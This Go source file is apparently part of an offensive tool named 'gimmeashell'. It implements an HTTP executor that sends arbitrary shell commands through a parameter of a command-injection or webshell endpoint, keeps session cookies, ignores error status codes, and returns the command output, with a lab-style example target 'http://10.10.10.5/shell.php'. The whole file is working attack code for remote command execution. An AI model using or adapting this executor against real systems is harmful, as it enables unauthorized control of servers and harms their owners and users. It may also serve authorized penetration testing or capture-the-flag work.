package executor

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"strings"
	"time"

	ncerr "gimmeashell/internal/errors"
)

// HTTPConfig describes a command-injection or webshell endpoint.
type HTTPConfig struct {
	URL     string            // endpoint, may already carry a query string
	Param   string            // parameter that receives the command
	Method  string            // "GET" or "POST", default "GET"
	Data    map[string]string // extra fixed parameters sent with every request
	Headers map[string]string // extra request headers, e.g. an auth cookie
	Timeout time.Duration     // per-request timeout, default 30s
}

// HTTP sends each command as a request parameter and returns the
// response body verbatim.  The status code is ignored: many webshells
// answer 500 while still printing the command's output.  Cookies set by
// the endpoint are kept for later requests.
type HTTP struct {
	cfg    HTTPConfig
	base   *url.URL
	client *http.Client
}

// NewHTTP validates cfg and builds the executor.
func NewHTTP(cfg HTTPConfig) (*HTTP, error) {
	if cfg.Method == "" {
		cfg.Method = http.MethodGet
	}
	cfg.Method = strings.ToUpper(cfg.Method)
	if cfg.Method != http.MethodGet && cfg.Method != http.MethodPost {
		return nil, &ncerr.ConfigError{
			Field:   "method",
			Value:   cfg.Method,
			Message: "unsupported HTTP method",
			Hint:    "use GET or POST",
		}
	}
	if cfg.Param == "" {
		return nil, &ncerr.ConfigError{Field: "param", Message: "required with --url"}
	}
	base, err := url.Parse(cfg.URL)
	if err != nil || base.Scheme == "" || base.Host == "" {
		return nil, &ncerr.ConfigError{
			Field:   "url",
			Value:   cfg.URL,
			Message: "not an absolute URL",
			Hint:    "e.g. http://10.10.10.5/shell.php",
		}
	}
	if cfg.Timeout == 0 {
		cfg.Timeout = 30 * time.Second
	}

	jar, _ := cookiejar.New(nil)
	return &HTTP{
		cfg:    cfg,
		base:   base,
		client: &http.Client{Jar: jar, Timeout: cfg.Timeout},
	}, nil
}

// Execute sends cmd to the endpoint.
func (h *HTTP) Execute(ctx context.Context, cmd string) (string, error) {
	req, err := h.request(ctx, cmd)
	if err != nil {
		return "", ncerr.Transport("request", h.cfg.URL, err)
	}

	resp, err := h.client.Do(req)
	if err != nil {
		return "", ncerr.Transport("request", h.cfg.URL, err)
	}
	defer resp.Body.Close()

	body, err := io.ReadAll(resp.Body)
	if err != nil {
		return "", ncerr.Transport("read", h.cfg.URL, err)
	}
	return string(body), nil
}

func (h *HTTP) request(ctx context.Context, cmd string) (*http.Request, error) {
	u := *h.base

	var body io.Reader
	switch h.cfg.Method {
	case http.MethodGet:
		q := u.Query()
		for k, v := range h.cfg.Data {
			q.Set(k, v)
		}
		q.Set(h.cfg.Param, cmd)
		u.RawQuery = q.Encode()
	case http.MethodPost:
		form := url.Values{}
		for k, v := range h.cfg.Data {
			form.Set(k, v)
		}
		form.Set(h.cfg.Param, cmd)
		body = strings.NewReader(form.Encode())
	default:
		return nil, fmt.Errorf("unsupported method %q", h.cfg.Method)
	}

	req, err := http.NewRequestWithContext(ctx, h.cfg.Method, u.String(), body)
	if err != nil {
		return nil, err
	}
	if body != nil {
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	for k, v := range h.cfg.Headers {
		req.Header.Set(k, v)
	}
	return req, nil
}

// Target returns the endpoint URL.
func (h *HTTP) Target() string { return h.cfg.URL }
